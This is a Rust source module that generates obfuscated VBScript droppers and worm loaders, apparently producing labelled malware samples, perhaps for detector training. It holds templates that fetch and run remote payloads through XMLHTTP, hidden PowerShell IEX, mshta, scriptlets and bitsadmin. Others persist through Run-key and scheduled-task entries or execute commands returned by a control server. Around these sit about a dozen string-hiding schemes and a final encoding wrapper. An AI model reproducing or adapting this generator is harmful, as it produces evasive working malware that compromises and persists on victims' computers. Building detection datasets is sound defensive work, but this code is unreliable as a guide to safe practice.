//! Visual Basic scripts: worms and mailed loaders.

use super::super::{Dice, Truth, base64, codes, each, hex, keyed, put, quoted, reversed, xored};
use super::{listed, padded, parted, table};

/// An expression whose value is `text`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two, three) = (dice.name(), dice.name(), dice.name());
    let names = [("ONE", one.as_str()), ("TWO", two.as_str()), ("THREE", three.as_str())];
    match dice.below(13) {
        0 => {
            let mark = dice.pick(&["|", "~", ";", "$"]).to_owned();
            before.push_str(&put(
                "Function @ONE@(s)\n    Dim p, i, r\n    p = Split(s, \"@M@\")\n    For i = LBound(p) To UBound(p)\n        r = r & Chr(CInt(p(i)))\n    Next\n    @ONE@ = r\nEnd Function\n",
                &[names[0], ("M", &mark)],
            ));
            format!("{one}(\"{}\")", codes(text.bytes(), &mark))
        }
        1 => {
            before.push_str(&put(
                "Function @ONE@(ByVal h)\n    Dim n\n    For n = 1 To Len(h) Step 2\n        @ONE@ = @ONE@ & Chr(CLng(\"&H\" & Mid(h, n, 2)))\n    Next\nEnd Function\n",
                &names,
            ));
            format!("{one}(\"{}\")", hex(text.as_bytes()))
        }
        2 => {
            let key = dice.key();
            before.push_str(&put(
                "@ONE@ = Array(@N@)\n@TWO@ = \"\"\nFor Each @THREE@ In @ONE@\n    @TWO@ = @TWO@ & ChrW(@THREE@ Xor @K@)\nNext\n",
                &[names[0], names[1], names[2], ("N", &codes(xored(text, key), ", ")), ("K", &key.to_string())],
            ));
            two
        }
        3 => {
            // Sums and differences in place of the numbers.
            let coded = each(text, " & ", |it| {
                let it = usize::from(it);
                match it % 3 {
                    0 => format!("Chr({}-{})", it + 17, 17),
                    1 => format!("Chr(&H{it:X})"),
                    _ => format!("Chr({}+{})", it - 9, 9),
                }
            });
            format!("({coded})")
        }
        4 => {
            let mark = dice.pick(&["$$", "(*)", "{x}", "!-!"]).to_owned();
            let coded = dice.littered(text, &mark);
            format!(
                "StrReverse(Replace(\"{}\", \"{}\", vbNullString))",
                reversed(&coded),
                reversed(&mark)
            )
        }
        5 => {
            let (letters, places) = table(dice, text, "");
            before.push_str(&format!("Const {one} = \"{letters}\"\n"));
            let taken: Vec<String> =
                places.iter().map(|at| format!("Mid({one}, {}, 1)", at + 1)).collect();
            format!("({})", taken.join(" & "))
        }
        6 => {
            before.push_str(&put(
                "Function @ONE@(s)\n    Dim d, n\n    Set d = CreateObject(\"MSXML2.DOMDocument\")\n    Set n = d.createElement(\"b\")\n    n.DataType = \"bin.base64\"\n    n.Text = s\n    @ONE@ = @TWO@(n.nodeTypedValue)\nEnd Function\nFunction @TWO@(b)\n    Dim i\n    For i = 1 To LenB(b)\n        @TWO@ = @TWO@ & Chr(AscB(MidB(b, i, 1)))\n    Next\nEnd Function\n",
                &names,
            ));
            format!("{one}(\"{}\")", base64(text.as_bytes()))
        }
        7 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let all: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            for at in order {
                before.push_str(&format!("Dim {0} : {0} = \"{1}\"\n", all[at], pieces[at]));
            }
            format!("Join(Array({}), \"\")", all.join(", "))
        }
        8 => {
            before.push_str(&put(
                "Function @ONE@(s)\n    Dim i : i = 1\n    Do While i <= Len(s)\n        @ONE@ = @ONE@ + Mid(s, i, 1)\n        i = i + 3\n    Loop\nEnd Function\n",
                &names,
            ));
            format!("{one}(\"{}\")", padded(dice, text, 2))
        }
        9 => {
            let key = dice.name();
            before.push_str(&put(
                "Function @ONE@(h, k)\n    Dim i, c, o\n    o = \"\"\n    For i = 0 To Len(h) \\ 2 - 1\n        c = CInt(\"&H\" & Mid(h, i * 2 + 1, 2))\n        o = o & Chr(c Xor Asc(Mid(k, (i Mod Len(k)) + 1, 1)))\n    Next\n    @ONE@ = o\nEnd Function\n",
                &names,
            ));
            format!("{one}(\"{}\", \"{key}\")", hex(&keyed(text, &key)))
        }
        10 => {
            // Run to be set.
            let coded = each(text, "&", |it| format!("Chr({it})"));
            before.push_str(&format!(
                "Execute \"{one} = {}\" & \"{}\"\n",
                &coded[..7],
                &coded[7..]
            ));
            one
        }
        11 => {
            let add = 1 + dice.below(60);
            let numbers = listed(
                text.bytes().enumerate().map(|(at, it)| usize::from(it) * 2 + add + at),
                ",",
            );
            before.push_str(&put(
                "@ONE@ = Split(\"@N@\", \",\")\nFor @THREE@ = 0 To UBound(@ONE@)\n    @ONE@(@THREE@) = Chr((@ONE@(@THREE@) - @A@ - @THREE@) / 2)\nNext\n@TWO@ = Join(@ONE@, \"\")\n",
                &[names[0], names[1], names[2], ("N", &numbers), ("A", &add.to_string())],
            ));
            two
        }
        _ => {
            // Letter by letter over long lines.
            let pieces = quoted(&dice.pieces(text), '"');
            before.push_str(&format!("{one} = {}\n", pieces.join(" & _\n    ")));
            one
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(7) {
        0 => format!("Dim {name}\n{name} = {}\n", dice.below(9999)),
        1 => "WScript.Sleep 2000\n".to_owned(),
        2 => format!("' {name}\n"),
        3 => format!("Function {name}(a)\n    {name} = a * {}\nEnd Function\n", 2 + dice.below(8)),
        4 => format!("If Len(\"{name}\") > 50 Then WScript.Quit\n"),
        5 => format!("Set {name} = CreateObject(\"Scripting.FileSystemObject\")\n"),
        _ => format!("{name} = Array(\"{}\", \"{}\")\n", dice.name(), dice.name()),
    }
}

fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file, other) = (dice.name(), dice.name(), dice.name());
    let body = match dice.below(11) {
        0 => {
            let url = truth.url(dice, &[".exe", ".jpg"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set {name} = CreateObject(\"Microsoft.XMLHTTP\")\nSet {other} = CreateObject(\"Adodb.Stream\")\n{name}.Open \"GET\", {url}, False\n{name}.Send\nWith {other}\n    .Type = 1\n    .Open\n    .Write {name}.responseBody\n    .SaveToFile \"C:\\Users\\Public\\{file}.exe\", 2\nEnd With\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\{file}.exe\", 0, False\n"
            )
        }
        1 => {
            // A worm asks what to do.
            let url = truth.url(dice, &["", ".php"]);
            let (base, path) = parted(&url);
            let base = hide(dice, &base, &mut before);
            format!(
                "Function {name}(p, d)\n    Dim h\n    Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n    h.Open \"POST\", {file} & p, False\n    h.SetRequestHeader \"User-Agent\", \"wsh\"\n    h.Send d\n    {name} = h.ResponseText\nEnd Function\n{file} = {base}\nOn Error Resume Next\n{other} = {name}(\"{path}\", \"x\")\nExecute {other}\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set {name} = CreateObject(\"WScript.Shell\")\n{other} = {url}\n{name}.Run \"powershell -nop -w hidden -c \"\"IEX((New-Object Net.WebClient).DownloadString('\" & {other} & \"'))\"\"\", 0, False\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".hta", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set {name} = CreateObject(\"Shell.Application\")\n{name}.ShellExecute \"mshta.exe\", {url}, \"\", \"open\", 0\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".sct", ""]);
            let url = hide(dice, &url, &mut before);
            format!("{other} = {url}\nSet {name} = GetObject(\"script:\" & {other})\n")
        }
        5 => {
            let url = truth.url(dice, &[".exe", ".msi"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "{other} = {url}\nSet {name} = GetObject(\"winmgmts:{{impersonationLevel=impersonate}}!\\\\.\\root\\cimv2:Win32_Process\")\n{name}.Create \"cmd /c bitsadmin /transfer {file} /download /priority high \" & {other} & \" %temp%\\{file}.exe & start %temp%\\{file}.exe\", Null, Null, {file}\n"
            )
        }
        6 => {
            let url = truth.url(dice, &[".vbs", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "{other} = {url}\nSet {name} = WScript.CreateObject(\"WScript.Shell\")\n{name}.RegWrite \"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{file}\", \"mshta \" & {other}, \"REG_SZ\"\n"
            )
        }
        7 => {
            let url = truth.url(dice, &[".txt", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set {name} = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\")\n{name}.setOption 2, 13056\n{name}.open \"GET\", {url}, False\n{name}.send\nIf {name}.Status = 200 Then\n    ExecuteGlobal {name}.responseText\nEnd If\n"
            )
        }
        8 => {
            let url = truth.url(dice, &["", ".htm"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set {name} = CreateObject(\"InternetExplorer.Application\")\n{name}.Visible = False\n{name}.Navigate {url}\nDo While {name}.Busy\n    WScript.Sleep 100\nLoop\n{other} = {name}.Document.body.innerText\n{name}.Quit\nExecute {other}\n"
            )
        }
        9 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "{other} = {url}\nSet {name} = CreateObject(\"WScript.Shell\")\n{name}.Run \"schtasks /create /f /sc minute /mo 30 /tn {file} /tr \"\"mshta \" & {other} & \"\"\"\", 0, True\n"
            )
        }
        _ => {
            let urls = [truth.url(dice, &[".exe", ""]), truth.url(dice, &[".dll", ""])];
            let one = hide(dice, &urls[0], &mut before);
            let two = hide(dice, &urls[1], &mut before);
            format!(
                "For Each {name} In Array({one}, {two})\n    On Error Resume Next\n    Set {other} = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n    {other}.Open \"GET\", {name}, False\n    {other}.Send\n    If {other}.Status = 200 Then\n        Set {file} = CreateObject(\"ADODB.Stream\")\n        {file}.Type = 1 : {file}.Open : {file}.Write {other}.ResponseBody\n        {file}.SaveToFile CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\{file}.dll\", 2\n        {file}.Close\n    End If\nNext\n"
            )
        }
    };
    before + &body
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let (name, other) = (dice.name(), dice.name());
    match dice.below(7) {
        0 => {
            let add = 1 + dice.below(90);
            let numbers =
                super::lines(&listed(script.bytes().map(|it| usize::from(it) + add), " "), 120);
            let mut out = format!("Dim {name}, {other}, n\n{name} = \"\"\n");
            for line in numbers {
                out.push_str(&format!("{name} = {name} & \"{line}\"\n"));
            }
            out + &format!(
                "For Each n In Split({name}, \" \")\n    {other} = {other} & Chr(n - {add})\nNext\nExecuteGlobal {other}\n"
            )
        }
        1 => {
            // The text turned, with its ends of lines under a sign.
            let flat = reversed(&script.trim_end().replace('\n', "\u{a7}")).replace('"', "\"\"");
            let flat = flat.replace('\u{a7}', "`");
            format!("ExecuteGlobal Replace(StrReverse(\"{flat}\"), \"`\", vbCrLf)\n")
        }
        2 => format!(
            "Function {name}(h)\n    Dim i\n    For i = 1 To Len(h) Step 2\n        {name} = {name} & Chr(\"&H\" & Mid(h, i, 2))\n    Next\nEnd Function\nExecuteGlobal {name}(\"{}\")\n",
            hex(script.as_bytes())
        ),
        3 => format!(
            "Set {name} = CreateObject(\"Microsoft.XMLDOM\").createElement(\"t\")\n{name}.dataType = \"bin.base64\"\n{name}.text = \"{}\"\nSet {other} = CreateObject(\"ADODB.Stream\")\n{other}.Type = 1\n{other}.Open\n{other}.Write {name}.nodeTypedValue\n{other}.Position = 0\n{other}.Type = 2\n{other}.Charset = \"us-ascii\"\nExecuteGlobal {other}.ReadText\n",
            base64(script.as_bytes())
        ),
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
    }
    wrap(dice, &script)
}
